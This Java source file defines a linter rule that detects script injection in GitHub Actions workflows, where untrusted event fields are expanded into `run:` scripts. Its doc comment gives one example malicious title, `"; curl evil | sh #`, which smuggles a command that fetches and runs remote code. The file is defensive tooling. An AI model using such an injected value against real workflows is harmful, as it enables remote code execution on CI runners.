package dev.bulwark.rules.workflow;

import dev.bulwark.core.Practice;
import dev.bulwark.core.Severity;
import dev.bulwark.rules.RuleInfo;
import dev.bulwark.rules.SpanSink;
import dev.bulwark.workflow.Expression;
import dev.bulwark.workflow.Job;
import dev.bulwark.workflow.Step;
import dev.bulwark.workflow.Workflow;
import java.util.List;

/**
 * A {@code run:} script that expands, with {@code ${{ }}}, an event field an outsider controls: an
 * issue, pull request, comment, review or discussion title or body, a branch name
 * ({@code head_ref}), commit messages and authors. The runner pastes the text into the script
 * before the shell parses it, so a title like {@code "; curl evil | sh #} runs. The list follows
 * GitHub Security Lab's "untrusted input" list.
 */
@RuleInfo(code = "CI009", name = "script-injection", practice = Practice.SECURITY,
        severity = Severity.ERROR,
        summary = "A `run:` script expands an untrusted event field with `${{ }}` (script injection).",
        fix = "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script.",
        aliases = {"CKV_GHA_2"})
public final class ScriptInjection implements WorkflowRule {
    // Suffixes of untrusted fields (securitylab.github.com, "Keeping your GitHub Actions and
    // workflows secure Part 2: Untrusted input").
    private static final List<String> UNTRUSTED = List.of(".title", ".body", ".head_ref", ".head.ref", ".head.label",
            ".message", ".author.email", ".author.name", ".page_name", ".head_branch", ".default_branch",
            ".head_commit.message");

    @Override
    public void check(WorkflowContext ctx, SpanSink sink) {
        Workflow w = ctx.workflow();
        for (Job job : w.jobs()) {
            for (Step step : job.steps()) {
                if (step.run().isEmpty()) {
                    continue;
                }
                for (Expression e : step.run().get().expressions()) {
                    String field = untrusted(e.inner());
                    if (!field.isEmpty()) {
                        sink.report(w.span(e.range()), "`" + field + "` expanded into a shell script");
                    }
                }
            }
        }
    }

    /** The untrusted field the expression reads, empty when none. */
    static String untrusted(String expression) {
        String e = expression.strip();
        if (e.equals("github.head_ref")) {
            return e;
        }
        if (!e.startsWith("github.event.")) {
            return "";
        }
        int end = 0;
        while (end < e.length() && (Character.isLetterOrDigit(e.charAt(end)) || e.charAt(end) == '.'
                || e.charAt(end) == '_' || e.charAt(end) == '*' || e.charAt(end) == '[' || e.charAt(end) == ']'
                || e.charAt(end) == '-')) {
            end++;
        }
        String field = e.substring(0, end);
        for (String suffix : UNTRUSTED) {
            if (field.endsWith(suffix)) {
                return field;
            }
        }
        return "";
    }
}
